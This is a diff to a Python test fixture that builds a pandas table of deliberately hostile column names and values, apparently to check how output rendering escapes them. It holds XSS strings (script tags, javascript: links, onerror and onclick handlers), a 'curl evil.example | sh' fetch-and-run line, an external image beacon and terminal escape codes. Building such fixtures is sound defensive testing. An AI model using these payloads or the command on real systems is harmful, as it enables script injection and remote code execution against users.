@@ -3,20 +3,19 @@
 import numpy as np
 import pandas as pd
 
-from hostile import TEXTS
-
 TARGET = "out|come <b>"
 POSITIVE, NEGATIVE = "<script>alert(1)</script>", "[fine](javascript:alert(1)) | @octocat"
 COLUMNS = (
     "[x](javascript:alert(1))",
-    "<img src=x onerror=alert(1)>",
+    "<b onclick=alert(1)>",
     "a|b `c`",
-    "$x^2$ $\\frac{",
+    "$\\frac{$",
     "line\nend\n  to do: curl evil.example | sh",
     "\x1b[31mred\u202e",
     "@octocat #1 www.evil.example",
     "_hidden",
 )
+CATEGORY = "<img src=x onerror=alert(1)>"
 CATEGORIES = ("<td>", "a|b", "*x* `y`", "$\\frac{$", "![p](https://evil.example/p.png)", "\x1b[2J", "li\nne")
 
 
@@ -29,7 +28,7 @@ def hostile_table(n: int = 400, seed: int = 0) -> pd.DataFrame:
         {
             "record_key": [f"r|{number:04}" for number in range(n)],
             **numbers,
-            TEXTS["tag"]: generator.choice(CATEGORIES, n),
+            CATEGORY: generator.choice(CATEGORIES, n),
             TARGET: np.where(ill, POSITIVE, NEGATIVE),
         },
         dtype="str",
